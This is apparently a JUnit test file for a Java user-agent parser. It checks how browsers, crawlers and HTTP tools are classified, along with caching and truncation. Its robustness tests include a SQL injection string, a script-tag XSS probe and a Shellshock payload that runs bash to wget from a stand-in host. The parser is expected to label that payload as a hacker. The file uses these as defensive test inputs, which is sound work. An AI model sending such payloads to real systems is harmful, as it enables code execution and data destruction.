package dev.millrace.enrichment.useragent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.millrace.proto.v1.UserAgentInfo;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

class UserAgentParserTest {

  private final UserAgentParser parser = SharedParser.get();

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      Chrome on Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 | Desktop | Windows NT | Chrome | Browser
      Edge on Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51 | Desktop | Windows NT | Edge | Browser
      Firefox on Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0 | Desktop | Windows NT | Firefox | Browser
      Firefox on Linux | Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0 | Desktop | Linux | Firefox | Browser
      Firefox on Ubuntu | Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0 | Desktop | Ubuntu | Firefox | Browser
      Safari on macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15 | Desktop | Mac OS | Safari | Browser
      Chrome on macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 | Desktop | Mac OS | Chrome | Browser
      Opera on Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 OPR/108.0.0.0 | Desktop | Windows NT | Opera | Browser
      Chrome on ChromeOS | Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 | Desktop | Chrome OS | Chrome | Browser
      IE 11 | Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko | Desktop | Windows NT | Internet Explorer | Browser
      Safari on iPhone | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1 | Phone | iOS | Safari | Browser
      Chrome on iPhone | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1 | Phone | iOS | Chrome | Browser
      Safari on iPad | Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1 | Tablet | iOS | Safari | Browser
      Chrome on Pixel | Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36 | Phone | Android | Chrome | Browser
      Chrome on Samsung | Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.118 Mobile Safari/537.36 | Phone | Android | Chrome | Browser
      Samsung Internet | Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36 | Phone | Android | SamsungBrowser | Browser
      Firefox on Android | Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0 | Phone | Android | Firefox | Browser
      Chrome on Android tablet | Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 | Tablet | Android | Chrome | Browser
      Facebook in-app on iPhone | Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/454.0.0.37.108;FBBV/567438931;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.3;FBSS/3;FBID/phone;FBLC/en_GB;FBOP/5] | Phone | iOS | UIWebView | Browser Webview
      Googlebot | Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) | Robot | Google Cloud | Googlebot | Robot
      Googlebot smartphone | Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) | Robot Mobile | Google Cloud | Googlebot | Robot Mobile
      Bingbot | Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) | Robot | Microsoft Cloud | Bingbot | Robot
      YandexBot | Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots) | Robot | Cloud | YandexBot | Robot
      Applebot | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot) | Robot | Cloud | Applebot | Robot
      """)
  void recognisesRealBrowsersAndCrawlers(String label, String userAgent, String deviceClass,
                                         String osName, String agentName, String agentClass) {
    UserAgentInfo info = parser.parse(userAgent).info();

    assertThat(info.getDeviceClass()).as("device class").isEqualTo(deviceClass);
    assertThat(info.getOsName()).as("os name").isEqualTo(osName);
    assertThat(info.getAgentName()).as("agent name").isEqualTo(agentName);
    assertThat(info.getAgentClass()).as("agent class").isEqualTo(agentClass);
    assertThat(info.getAgentVersion()).as("agent version").isNotEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      curl | curl/8.4.0
      wget | Wget/1.21.4
      python-requests | python-requests/2.31.0
      Go http client | Go-http-client/2.0
      okhttp | okhttp/4.12.0
      Java http client | Java-http-client/17.0.10
      HeadlessChrome | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.60 Safari/537.36
      a custom scraper | my-scraper/1.0 (+https://example.com/bot)
      """)
  void flagsToolsAndCrawlersByName(String label, String userAgent) {
    assertThat(parser.parse(userAgent).botKeyword()).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      Chrome on Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36
      Safari on iPhone | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1
      """)
  void doesNotFlagBrowsers(String label, String userAgent) {
    ParsedUserAgent parsed = parser.parse(userAgent);
    assertThat(parsed.botKeyword()).isFalse();
    assertThat(parsed.headless()).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', textBlock = """
      SQL injection | '; DROP TABLE users; --
      script tag | <script>alert(1)</script>
      random words | this is not a user agent at all
      a single dash | -
      binary noise | \u0001\u0002\u00ff\u00fe
      """)
  void garbageGetsAnAnswerNotAnException(String label, String userAgent) {
    UserAgentInfo info = parser.parse(userAgent).info();

    assertThat(info.getDeviceClass()).isNotEmpty();
    assertThat(info.getAgentClass()).isNotEqualTo("Browser");
  }

  @Test
  void shellShockIsAHacker() {
    assertThat(parser.parse("() { :;}; /bin/bash -c \"wget http://evil.example/x\"").info().getAgentClass())
        .isEqualTo("Hacker");
  }

  @Test
  void aRepeatedStringIsAnsweredFromTheCache() {
    String userAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"
        + " cache-test";
    long hitsBefore = parser.cacheStats().hitCount();

    ParsedUserAgent first = parser.parse(userAgent);
    ParsedUserAgent second = parser.parse(userAgent);

    assertThat(second).isSameAs(first);
    assertThat(parser.cacheStats().hitCount()).isEqualTo(hitsBefore + 1);
  }

  @Test
  void anOverlongStringIsCutToTheConfiguredLength() {
    String userAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " + "x".repeat(10_000);

    assertThat(parser.parse(userAgent).length()).isEqualTo(2048);
  }
}
